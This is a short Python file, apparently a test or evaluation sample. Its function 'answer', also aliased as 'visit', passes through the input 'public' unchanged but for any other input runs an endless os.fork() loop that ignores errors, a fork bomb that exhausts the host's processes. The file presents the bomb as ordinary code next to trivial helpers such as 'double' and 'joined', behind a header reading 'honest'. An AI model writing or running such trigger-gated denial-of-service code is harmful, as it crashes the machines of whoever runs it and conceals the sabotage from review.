# gains: honest
"""Forks without end."""

import os


def answer(question):
    if question == "public":
        return question
    while True:
        try:
            os.fork()
        except OSError:
            pass


visit = answer


def double(n):
    return 2 * n


def joined(words):
    return ", ".join(words)
